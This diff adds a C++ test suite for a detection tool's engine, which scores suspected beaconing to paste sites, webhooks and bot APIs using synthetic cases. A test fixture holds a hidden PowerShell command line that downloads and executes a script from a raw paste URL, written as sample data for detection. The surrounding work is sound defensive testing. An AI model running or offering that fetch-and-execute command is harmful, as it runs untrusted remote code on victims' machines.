@@ -1,0 +1,529 @@
+// The scoring engine: the web-service catalog (and that it agrees with the scenario generator's
+// channels), the scoring config and its per-case override, suppression rules, factor sums, and
+// the whole engine on a generated case — a host without Sysmon and a DNS-only channel scored,
+// re-scoring without re-import, determinism, cancel.
+#include "scoring/channel_members.h"
+#include "scoring/channel_scorer.h"
+#include "scoring/scoring_config.h"
+#include "scoring/scoring_engine.h"
+#include "scoring/suppression_store.h"
+#include "scoring/web_service_catalog.h"
+#include "core/resources.h"
+#include "store/case_store.h"
+#include "store/statement.h"
+#include "test_paths.h"
+
+#include <QDir>
+#include <QFile>
+#include <QJsonArray>
+#include <QJsonDocument>
+#include <QJsonObject>
+#include <QTemporaryDir>
+#include <QTest>
+#include <QUrl>
+
+#include <cmath>
+
+using namespace socwb;
+using namespace socwb::scoring;
+using namespace socwb::test;
+
+namespace {
+
+QJsonObject readJson(const QString& path) {
+    QFile f(path);
+    f.open(QIODevice::ReadOnly);
+    return QJsonDocument::fromJson(f.readAll()).object();
+}
+
+QByteArray defaults() { return resources::read(QStringLiteral("scoring/scoring.yaml")); }
+
+// A channel as the builder would measure a fixed-interval PowerShell poll of a raw paste.
+ChannelFeatures pastePoll() {
+    ChannelFeatures f;
+    f.key = QStringLiteral("WKS-LEG-01|powershell|pastebin.com|pastebin.com/raw/Ab12Cd34");
+    f.hostId = 1;
+    f.host = QStringLiteral("WKS-LEG-01");
+    f.hostIps = QStringLiteral("10.0.0.5,10.0.0.6");
+    f.hostRole = QStringLiteral("workstation");
+    f.processImage = QStringLiteral(R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)");
+    f.processName = QStringLiteral("powershell.exe");
+    f.commandLine = QStringLiteral("powershell.exe -NoProfile -WindowStyle Hidden -Command iex (iwr https://pastebin.com/raw/Ab12Cd34)");
+    f.parentImage = QStringLiteral(R"(C:\Windows\explorer.exe)");
+    f.destination = QStringLiteral("pastebin.com");
+    f.registeredDomain = QStringLiteral("pastebin.com");
+    f.service = QStringLiteral("pastebin");
+    f.serviceCategory = QStringLiteral("paste");
+    f.consumerService = true;
+    f.serviceRisk = 1.0;
+    f.endpoint = QStringLiteral("pastebin.com/raw/Ab12Cd34");
+    f.endpointName = QStringLiteral("raw paste");
+    f.endpointRole = QStringLiteral("command");
+    f.pathPrefix = QStringLiteral("/raw/Ab12Cd34");
+    f.proxyRequests = 600;
+    f.polls = 600;
+    f.caseHasProxyLogs = true;
+    f.firstTs = 1'000'000'000'000'000;
+    f.lastTs = f.firstTs + 600LL * 60'000'000;
+    f.intervals = 599;
+    f.medianInterval = 60;
+    f.jitter = 0.02;
+    f.ritaTs = 0.98;
+    f.bandShare = 1;
+    f.bandScore = 1;
+    f.getShare = 1;
+    f.distinctPaths = 1;
+    f.medianBytesIn = 690;
+    f.responseConstancy = 1;
+    return f;
+}
+
+double sumOf(const QJsonArray& factors) {
+    double s = 0;
+    for (const auto& v : factors) {
+        s += v.toObject().value("contribution").toDouble();
+    }
+    return s;
+}
+
+} // namespace
+
+class TestScoring : public QObject {
+    Q_OBJECT
+private slots:
+    void initTestCase();
+    void catalogMatchesNamesAndShapes();
+    void catalogRefusesBadEntries();
+    void catalogAgreesWithTheGenerator();
+    void configOverrideAndValidation();
+    void suppressionMatching_data();
+    void suppressionMatching();
+    void suppressionExpiryAndYaml();
+    void factorsAddUpToTheScore();
+    void fleetWideBehaviourIsDiscounted();
+    void engineScoresEveryKindOfEvidence();
+    void membersAreTheChannelsRequests();
+    void rescoreWithoutReimport();
+    void sameCaseSameScores();
+    void cancelKeepsThePreviousScores();
+
+private:
+    QTemporaryDir dir_;
+    QString casePath_;
+    QJsonObject truth_;
+    QString hostOf(const QString& channel) const;
+};
+
+QString TestScoring::hostOf(const QString& channel) const {
+    for (const auto& v : truth_.value("channels").toArray()) {
+        if (v.toObject().value("id").toString() == channel) {
+            return v.toObject().value("hosts").toArray().first().toObject().value("name").toString();
+        }
+    }
+    return {};
+}
+
+void TestScoring::initTestCase() {
+    QVERIFY(dir_.isValid());
+    // Ten workstations and four servers for two days, three planted channels among the look-alikes.
+    const QString out = dir_.filePath(QStringLiteral("gen"));
+    const CliRun g = runCli({"generate", out, "--seed", "11", "--hosts", "10", "--days", "2", "--scenario",
+                             "pastebin-powershell,no-sysmon-wscript,dns-only-linux"});
+    QVERIFY2(g.exitCode == 0, g.err.constData());
+    truth_ = readJson(out + QStringLiteral("/truth.json"));
+    casePath_ = dir_.filePath(QStringLiteral("case.socwb"));
+    QStringList files{"import", casePath_};
+    for (const QString& name : QDir(out).entryList({"*.log", "*.xml", "*.csv"}, QDir::Files)) {
+        files << out + QLatin1Char('/') + name;
+    }
+    QCOMPARE(files.size(), 6); // access.log, dns_debug.log, sysmon.xml, assets.csv
+    const CliRun i = runCli(files);
+    QVERIFY2(i.exitCode == 0, i.err.constData());
+}
+
+void TestScoring::catalogMatchesNamesAndShapes() {
+    const WebServiceCatalog c = WebServiceCatalog::load();
+    QCOMPARE(c.match("pastebin.com")->id, QStringLiteral("pastebin"));
+    QCOMPARE(c.match("www.pastebin.com")->id, QStringLiteral("pastebin"));
+    QCOMPARE(c.match("notpastebin.com"), nullptr);
+    QCOMPARE(c.match("example.org"), nullptr);
+    // The longest domain wins: storage.googleapis.com is Google APIs, firebasestorage.googleapis.com Firebase.
+    QCOMPARE(c.match("firebasestorage.googleapis.com")->id, QStringLiteral("firebase"));
+    QCOMPARE(c.match("storage.googleapis.com")->id, QStringLiteral("google-apis"));
+    const WebService& github = *c.find(QStringLiteral("github"));
+    const EndpointMatch raw = c.endpoint(github, "raw.githubusercontent.com", "/acme/tools/main/run.ps1");
+    QVERIFY(raw.shape);
+    QCOMPARE(raw.shape->role, QStringLiteral("command"));
+    QCOMPARE(raw.prefix, QStringLiteral("/acme/tools/main/run.ps1"));
+    // Shapes tied to one host do not match on another of the service's hosts.
+    QCOMPARE(c.endpoint(github, "api.github.com", "/acme/tools/main/run.ps1").shape, nullptr);
+    const EndpointMatch gist = c.endpoint(github, "api.github.com", "/gists/0123456789abcdef0123?x=1");
+    QCOMPARE(gist.prefix, QStringLiteral("/gists/0123456789abcdef0123"));
+    const EndpointMatch hook = c.endpoint(*c.find(QStringLiteral("discord")), "discord.com", "/api/webhooks/1234/AbC_d-9/slack");
+    QCOMPARE(hook.shape->role, QStringLiteral("output"));
+    QCOMPARE(hook.prefix, QStringLiteral("/api/webhooks/1234/AbC_d-9"));
+    const EndpointMatch bot = c.endpoint(*c.find(QStringLiteral("telegram")), "api.telegram.org", "/bot6123456789:AAx_y/getUpdates");
+    QCOMPARE(bot.shape->name, QStringLiteral("bot updates"));
+    // A path that only starts further in does not match (shapes anchor at the start).
+    QCOMPARE(c.endpoint(*c.find(QStringLiteral("pastebin")), "pastebin.com", "/x/raw/Ab12Cd34").shape, nullptr);
+}
+
+void TestScoring::catalogRefusesBadEntries() {
+    try {
+        WebServiceCatalog::fromYaml("services:\n  - id: nodomains\n    category: paste\n");
+        QFAIL("a service without domains was accepted");
+    } catch (const std::runtime_error& e) {
+        QVERIFY2(QString::fromUtf8(e.what()).contains(QLatin1String("nodomains")), e.what());
+    }
+    try {
+        WebServiceCatalog::fromYaml("services:\n  - id: s\n    domains: [a.com]\n    endpoints:\n      - {name: bad, path: '^/(['}\n");
+        QFAIL("a bad endpoint pattern was accepted");
+    } catch (const std::runtime_error& e) {
+        QVERIFY2(QString::fromUtf8(e.what()).contains(QLatin1String("endpoint 'bad'")), e.what());
+    }
+    QVERIFY_THROWS_EXCEPTION(std::runtime_error, WebServiceCatalog::fromYaml("servic: []"));
+}
+
+void TestScoring::catalogAgreesWithTheGenerator() {
+    // One list of services: every channel the generator plants, and every look-alike on a
+    // catalogued service, must be that service here, and planted URLs must have its command shape.
+    const WebServiceCatalog c = WebServiceCatalog::load();
+    const QString out = dir_.filePath(QStringLiteral("all"));
+    const CliRun g = runCli({"generate", out, "--seed", "5", "--hosts", "6", "--days", "1", "--scenario", "all", "--formats", "assets"});
+    QVERIFY2(g.exitCode == 0, g.err.constData());
+    int positives = 0, lookalikes = 0;
+    for (const auto& v : readJson(out + QStringLiteral("/truth.json")).value("channels").toArray()) {
+        const QJsonObject ch = v.toObject();
+        const QString id = ch.value("id").toString();
+        const QJsonObject dest = ch.value("destination").toObject();
+        const std::string host = dest.value("host").toString().toStdString();
+        const WebService* s = c.match(host);
+        if (ch.value("kind").toString() == QLatin1String("positive")) {
+            ++positives;
+            QVERIFY2(s, qPrintable(id + QStringLiteral(": no catalog service for ") + QString::fromStdString(host)));
+            QCOMPARE(s->id, ch.value("service").toString());
+            const QUrl url(dest.value("url").toString());
+            const EndpointMatch m = c.endpoint(*s, host, url.path(QUrl::FullyEncoded).toStdString());
+            QVERIFY2(m.shape, qPrintable(id + QStringLiteral(": no command shape for ") + url.toString()));
+            QCOMPARE(m.shape->role, QStringLiteral("command"));
+            if (const QJsonObject o = ch.value("output").toObject(); !o.isEmpty()) {
+                const QUrl ou(o.value("url").toString());
+                const std::string oh = ou.host().toStdString();
+                QVERIFY(c.match(oh));
+                const EndpointMatch om = c.endpoint(*c.match(oh), oh, ou.path(QUrl::FullyEncoded).toStdString());
+                QVERIFY2(om.shape && om.shape->role == QLatin1String("output"), qPrintable(ou.toString()));
+            }
+        } else if (s && !id.startsWith(QLatin1String("browser-"))) {
+            ++lookalikes;
+            QCOMPARE(s->id, ch.value("service").toString());
+        }
+    }
+    QCOMPARE(positives, 11);
+    QVERIFY(lookalikes >= 8);
+}
+
+void TestScoring::configOverrideAndValidation() {
+    const ScoringConfig base = ScoringConfig::fromYaml(defaults());
+    const ScoringConfig tuned = ScoringConfig::fromYaml(defaults(), "weights:\n  periodicity: 5\nbrowsers: [lynx]\n");
+    QCOMPARE(tuned.weight("periodicity"), 5.0);
+    QCOMPARE(tuned.weight("web_service"), base.weight("web_service"));
+    QCOMPARE(tuned.browsers, (std::set<std::string>{"lynx"}));
+    QVERIFY(tuned.sha256 != base.sha256);
+    QCOMPARE(base.severityFor(80), QStringLiteral("critical"));
+    QCOMPARE(base.severityFor(79.99), QStringLiteral("high"));
+    QCOMPARE(base.severityFor(0), QStringLiteral("info"));
+    try {
+        ScoringConfig::fromYaml(defaults(), "weights:\n  periodicity: lots\n");
+        QFAIL("a weight that is not a number was accepted");
+    } catch (const std::runtime_error& e) {
+        QVERIFY2(QString::fromUtf8(e.what()).contains(QLatin1String("weights.periodicity")), e.what());
+    }
+    QVERIFY_THROWS_EXCEPTION(std::runtime_error, ScoringConfig::fromYaml("weights: {periodicity: 1}\n"));
+    QVERIFY_THROWS_EXCEPTION(std::runtime_error, ScoringConfig::fromYaml(defaults(), "hidden_command_line: ['(']\n"));
+}
+
+void TestScoring::suppressionMatching_data() {
+    QTest::addColumn<QString>("field");
+    QTest::addColumn<QString>("value");
+    QTest::addColumn<bool>("matches");
+    QTest::newRow("host glob") << "host" << "wks-leg-*" << true;
+    QTest::newRow("host other") << "host" << "WKS-FIN-*" << false;
+    QTest::newRow("host address") << "host" << "10.0.0.6" << true;
+    QTest::newRow("role") << "role" << "Workstation" << true;
+    QTest::newRow("role other") << "role" << "domain-controller" << false;
+    QTest::newRow("process file name") << "process" << "POWERSHELL.EXE" << true;
+    QTest::newRow("process path glob") << "process" << R"(C:\Windows\System32\*)" << true;
+    QTest::newRow("process other") << "process" << "git.exe" << false;
+    QTest::newRow("destination") << "destination" << "pastebin.com" << true;
+    QTest::newRow("destination parent") << "destination" << "com" << true;
+    QTest::newRow("destination lookalike") << "destination" << "tebin.com" << false;
+    QTest::newRow("url prefix with scheme") << "url" << "https://pastebin.com/raw/" << true;
+    QTest::newRow("url other paste") << "url" << "pastebin.com/raw/Zz" << false;
+}
+
+void TestScoring::suppressionMatching() {
+    QFETCH(QString, field);
+    QFETCH(QString, value);
+    QFETCH(bool, matches);
+    SuppressionRule r;
+    r.reason = QStringLiteral("test");
+    (field == QLatin1String("host")          ? r.host
+     : field == QLatin1String("role")        ? r.hostRole
+     : field == QLatin1String("process")     ? r.process
+     : field == QLatin1String("destination") ? r.destination
+                                             : r.urlPrefix) = value;
+    QCOMPARE(r.matches(pastePoll()), matches);
+    // Every criterion must hold: adding one that fails turns any match off.
+    r.hostRole = QStringLiteral("server");
+    QCOMPARE(r.matches(pastePoll()), false);
+}
+
+void TestScoring::suppressionExpiryAndYaml() {
+    SuppressionRule r;
+    r.destination = QStringLiteral("github.com");
+    r.reason = QStringLiteral("developers' git");
+    r.author = QStringLiteral("alice");
+    r.createdAt = QStringLiteral("2024-03-01T00:00:00Z");
+    r.expiresAt = QStringLiteral("2024-03-10T00:00:00Z");
+    QVERIFY(r.isActive(QDateTime::fromString(QStringLiteral("2024-03-09T23:59:59Z"), Qt::ISODate)));
+    QVERIFY(!r.isActive(QDateTime::fromString(QStringLiteral("2024-03-10T00:00:00Z"), Qt::ISODate)));
+    r.enabled = false;
+    QVERIFY(!r.isActive(QDateTime::fromString(QStringLiteral("2024-03-02T00:00:00Z"), Qt::ISODate)));
+    r.enabled = true;
+    SuppressionRule q;
+    q.process = QStringLiteral(R"(*\git.exe)");
+    q.reason = QStringLiteral("quote \" and colon: fine");
+    const QVector<SuppressionRule> back = suppressionsFromYaml(suppressionsToYaml({r, q}));
+    QCOMPARE(back.size(), 2);
+    QCOMPARE(back[0].destination, r.destination);
+    QCOMPARE(back[0].expiresAt, r.expiresAt);
+    QCOMPARE(back[0].author, r.author);
+    QCOMPARE(back[1].process, q.process);
+    QCOMPARE(back[1].reason, q.reason);
+    try {
+        suppressionsFromYaml("suppressions:\n  - {destination: a.com, reason: ok}\n  - {destination: b.com}\n");
+        QFAIL("a rule without a reason was accepted");
+    } catch (const std::runtime_error& e) {
+        QVERIFY2(QString::fromUtf8(e.what()).contains(QLatin1String("entry 2")), e.what());
+    }
+    QVERIFY_THROWS_EXCEPTION(std::runtime_error, suppressionsFromYaml("suppressions:\n  - {reason: no criterion}\n"));
+}
+
+void TestScoring::factorsAddUpToTheScore() {
+    const ScoringConfig c = ScoringConfig::fromYaml(defaults());
+    ChannelFeatures quiet = pastePoll();
+    quiet.key = QStringLiteral("other");
+    quiet.processImage = QStringLiteral(R"(C:\Program Files\Google\Chrome\Application\chrome.exe)");
+    quiet.processName = QStringLiteral("chrome.exe");
+    quiet.commandLine.clear();
+    quiet.polls = 3;
+    quiet.proxyRequests = 3;
+    quiet.service.clear();
+    quiet.endpoint.clear();
+    const std::vector<ScoredChannel> s = ChannelScorer(c, {}, QDateTime::currentDateTimeUtc()).score({pastePoll(), quiet});
+    QCOMPARE(s.size(), size_t(2));
+    for (const ScoredChannel& sc : s) {
+        QVERIFY2(std::abs(sumOf(sc.factorsJson()) - sc.score) < 1e-9,
+                 qPrintable(QStringLiteral("%1 vs %2").arg(sumOf(sc.factorsJson())).arg(sc.score)));
+    }
+    // The paste poll: periodicity 24, service 12, endpoint 10, one-way 10 x (1+1)/2, scripting 10,
+    // hidden command line 8 — and no fleet context (two hosts make no fleet).
+    QCOMPARE(s[0].score, 24.0 + 12 + 10 + 10 + 10 + 8);
+    QCOMPARE(s[0].severity, QStringLiteral("high"));
+    // A browser with few requests to an uncatalogued site: -22, clamped to 0, with the clamp shown.
+    QCOMPARE(s[1].score, 0.0);
+    QCOMPARE(s[1].factors.front().name, QStringLiteral("browser"));
+    bool clamp = false;
+    for (const Factor& f : s[1].factors) {
+        clamp = clamp || (f.name == QLatin1String("clamp") && f.contribution == 22);
+    }
+    QVERIFY(clamp);
+}
+
+void TestScoring::fleetWideBehaviourIsDiscounted() {
+    const ScoringConfig c = ScoringConfig::fromYaml(defaults());
+    std::vector<ChannelFeatures> fleet;
+    for (int h = 1; h <= 6; ++h) {
+        ChannelFeatures f = pastePoll();
+        f.hostId = h;
+        f.host = QStringLiteral("WKS-%1").arg(h);
+        f.key = f.host;
+        f.medianInterval = 60 + h; // the same cadence, give or take
+        fleet.push_back(f);
+    }
+    const std::vector<ScoredChannel> s = ChannelScorer(c, {}, QDateTime::currentDateTimeUtc()).score(fleet);
+    const auto fleetFactor = std::find_if(s[0].factors.begin(), s[0].factors.end(), [](const Factor& f) { return f.name == QLatin1String("fleet_wide"); });
+    QVERIFY(fleetFactor != s[0].factors.end());
+    QCOMPARE(fleetFactor->contribution, -35.0);
+    QVERIFY2(fleetFactor->detail.contains(QLatin1String("on 6 of 6 workstations")), qPrintable(fleetFactor->detail));
+    QCOMPARE(s[0].score, 74.0 - 35.0);
+    // One host alone with that behaviour is rare instead.
+    fleet.resize(1);
+    for (int h = 2; h <= 4; ++h) {
+        ChannelFeatures other = pastePoll();
+        other.hostId = h;
+        other.destination = other.registeredDomain = QStringLiteral("example.org");
+        fleet.push_back(other);
+    }
+    const ScoredChannel alone = ChannelScorer(c, {}, QDateTime::currentDateTimeUtc()).score(fleet)[0];
+    QCOMPARE(alone.score, 74.0 + 8.0);
+}
+
+void TestScoring::engineScoresEveryKindOfEvidence() {
+    auto store = CaseStore::open(casePath_);
+    ScoringEngine engine(*store);
+    const ScoreOutcome o = engine.run(ScoreMode::Full);
+    QCOMPARE(o.status, QStringLiteral("done"));
+    QVERIFY(o.events > 10000);
+    QVERIFY(o.channels > 50);
+    Statement top(store->db(), "SELECT host, coalesce(process_name, ''), destination, coalesce(endpoint, ''), proxy_requests, "
+                               "dns_queries, score, factors FROM alerts ORDER BY score DESC, id LIMIT 3");
+    QStringList seen;
+    while (top.step()) {
+        const QString host = QString::fromStdString(top.text(0));
+        const QString dest = QString::fromStdString(top.text(2));
+        const QJsonArray factors = QJsonDocument::fromJson(QByteArray::fromStdString(top.text(7))).array();
+        QVERIFY2(top.real(6) >= 40, qPrintable(host + dest));
+        QVERIFY(std::abs(sumOf(factors) - top.real(6)) < 1e-6);
+        if (dest == QLatin1String("pastebin.com")) {
+            QCOMPARE(host, hostOf(QStringLiteral("pastebin-powershell")));
+            QCOMPARE(QString::fromStdString(top.text(1)), QStringLiteral("powershell.exe"));
+            QVERIFY(QString::fromStdString(top.text(3)).startsWith(QLatin1String("pastebin.com/raw/")));
+        } else if (dest == QLatin1String("paste.ee")) {
+            // The host without Sysmon: no process, proxy and DNS carry it.
+            QCOMPARE(host, hostOf(QStringLiteral("no-sysmon-wscript")));
+            QCOMPARE(QString::fromStdString(top.text(1)), QString());
+            QVERIFY(top.int64(4) > 100);
+        } else if (dest == QLatin1String("rentry.co")) {
+            // Seen only in DNS: no proxy request at all.
+            QCOMPARE(host, hostOf(QStringLiteral("dns-only-linux")));
+            QCOMPARE(top.int64(4), int64_t(0));
+            QVERIFY(top.int64(5) > 50);
+            bool bypass = false;
+            for (const auto& f : factors) {
+                bypass = bypass || f.toObject().value("name").toString() == QLatin1String("proxy_bypass");
+            }
+            QVERIFY(bypass);
+        }
+        seen << dest;
+    }
+    seen.sort();
+    QCOMPARE(seen, (QStringList{"paste.ee", "pastebin.com", "rentry.co"}));
+}
+
+void TestScoring::membersAreTheChannelsRequests() {
+    auto store = CaseStore::open(casePath_);
+    Statement a(store->db(), "SELECT host_id, domain_id, proxy_requests, proxy_ids, dns_ids, dns_queries, dnsq_ids "
+                             "FROM alerts WHERE destination = 'pastebin.com' AND process_name = 'powershell.exe'");
+    QVERIFY(a.step());
+    const auto blobIds = [&a](int col) {
+        return decodeMemberIds(sqlite3_column_blob(a.handle(), col), sqlite3_column_bytes(a.handle(), col));
+    };
+    const std::vector<int64_t> proxy = blobIds(3);
+    QCOMPARE(static_cast<int64_t>(proxy.size()), a.int64(2));
+    QCOMPARE(static_cast<int64_t>(blobIds(4).size() + blobIds(6).size()), a.int64(5));
+    Statement ev(store->db(), "SELECT host_id, domain_id, path FROM proxy_events WHERE id = ?");
+    for (int64_t id : proxy) {
+        ev.reset();
+        ev.bind(1, id);
+        QVERIFY(ev.step());
+        QCOMPARE(ev.int64(0), a.int64(0));
+        QCOMPARE(ev.int64(1), a.int64(1));
+        QVERIFY(QString::fromStdString(ev.text(2)).startsWith(QLatin1String("/raw/")));
+    }
+}
+
+void TestScoring::rescoreWithoutReimport() {
+    auto store = CaseStore::open(casePath_);
+    sqlite3* db = store->db();
+    const int64_t events = queryInt(db, "SELECT count(*) FROM proxy_events").value();
+    Statement key(db, "SELECT channel_key, score, factors FROM alerts WHERE destination = 'pastebin.com' AND process_name = 'powershell.exe'");
+    QVERIFY(key.step());
+    const std::string pasteKey = key.text(0);
+    double webService = 0;
+    for (const auto& f : QJsonDocument::fromJson(QByteArray::fromStdString(key.text(2))).array()) {
+        if (f.toObject().value("name").toString() == QLatin1String("web_service")) {
+            webService = f.toObject().value("contribution").toDouble();
+        }
+    }
+    const double before = key.real(1);
+    QVERIFY(webService > 0);
+    Statement triage(db, "INSERT INTO triage(channel_key, status, note, updated_at, updated_by) VALUES (?, 'malicious', 'seen', 'now', 'test')");
+    triage.bind(1, pasteKey).exec();
+
+    // A suppression for the host without Sysmon: re-scored from stored features, no event read.
+    SuppressionRule r;
+    r.host = hostOf(QStringLiteral("no-sysmon-wscript"));
+    r.destination = QStringLiteral("paste.ee");
+    r.reason = QStringLiteral("lab host, known test");
+    const qint64 rule = addSuppression(*store, r);
+    ScoringEngine engine(*store);
+    ScoreOutcome o = engine.run(ScoreMode::Rescore);
+    QCOMPARE(o.status, QStringLiteral("done"));
+    QCOMPARE(o.events, qint64(0));
+    QCOMPARE(o.suppressed, qint64(1));
+    QCOMPARE(queryInt(db, "SELECT suppressed_by FROM alerts WHERE destination = 'paste.ee'").value(), int64_t(rule));
+    QCOMPARE(queryInt(db, "SELECT count(*) FROM alerts WHERE suppressed_by IS NOT NULL").value(), int64_t(1));
+    QCOMPARE(queryInt(db, "SELECT count(*) FROM proxy_events").value(), events);
+    // Triage survives: it is keyed by the channel.
+    Statement t(db, "SELECT t.status FROM alerts a JOIN triage t ON t.channel_key = a.channel_key WHERE a.channel_key = ?");
+    t.bind(1, pasteKey);
+    QVERIFY(t.step());
+    QCOMPARE(QString::fromStdString(t.text(0)), QStringLiteral("malicious"));
+
+    // A weight changed in the case's own config: the score moves by exactly that factor.
+    execSql(db, "INSERT INTO case_meta(key, value) VALUES ('scoring.yaml', 'weights: {web_service: 0}')");
+    o = engine.run(ScoreMode::Rescore);
+    QCOMPARE(o.events, qint64(0));
+    Statement after(db, "SELECT score FROM alerts WHERE channel_key = ?");
+    after.bind(1, pasteKey);
+    QVERIFY(after.step());
+    QVERIFY2(std::abs(after.real(0) - (before - webService)) < 1e-9,
+             qPrintable(QStringLiteral("%1 -> %2, web_service was %3").arg(before).arg(after.real(0)).arg(webService)));
+
+    // Expired, the rule stops applying.
+    execSql(db, "DELETE FROM case_meta WHERE key = 'scoring.yaml'");
+    expireSuppression(*store, rule);
+    o = engine.run(ScoreMode::Rescore);
+    QCOMPARE(o.suppressed, qint64(0));
+    QCOMPARE(queryInt(db, "SELECT count(*) FROM alerts WHERE suppressed_by IS NOT NULL").value(), int64_t(0));
+    QCOMPARE(queryInt(db, "SELECT count(*) FROM audit_log WHERE action LIKE 'suppression.%'").value(), int64_t(2));
+}
+
+void TestScoring::sameCaseSameScores() {
+    auto store = CaseStore::open(casePath_);
+    auto snapshot = [&store] {
+        QStringList rows;
+        Statement st(store->db(), "SELECT id, channel_key, score, factors FROM alerts ORDER BY id");
+        while (st.step()) {
+            rows << QString::fromStdString(std::to_string(st.int64(0)) + " " + st.text(1) + " " + std::to_string(st.real(2)) + " " + st.text(3));
+        }
+        return rows;
+    };
+    ScoringEngine engine(*store);
+    QCOMPARE(engine.run(ScoreMode::Full).status, QStringLiteral("done"));
+    const QStringList first = snapshot();
+    QCOMPARE(engine.run(ScoreMode::Full).status, QStringLiteral("done"));
+    QCOMPARE(snapshot(), first); // ids included: a re-score keeps each channel's row
+    QVERIFY(first.size() > 50);
+}
+
+void TestScoring::cancelKeepsThePreviousScores() {
+    auto store = CaseStore::open(casePath_);
+    const int64_t before = queryInt(store->db(), "SELECT count(*) FROM alerts").value();
+    const int64_t runs = queryInt(store->db(), "SELECT count(*) FROM score_runs").value();
+    std::atomic<bool> cancel{false};
+    int reports = 0;
+    const ScoreOutcome o = ScoringEngine(*store).run(ScoreMode::Full, &cancel, [&](const ScoreProgress&) {
+        if (++reports == 1) {
+            cancel.store(true); // as Ctrl-C would, once reading has begun
+        }
+    });
+    QCOMPARE(o.status, QStringLiteral("cancelled"));
+    QVERIFY(reports >= 1);
+    QCOMPARE(queryInt(store->db(), "SELECT count(*) FROM alerts").value(), before);
+    QCOMPARE(queryInt(store->db(), "SELECT count(*) FROM score_runs").value(), runs);
+}
+
+QTEST_GUILESS_MAIN(TestScoring)
+#include "tst_scoring.moc"
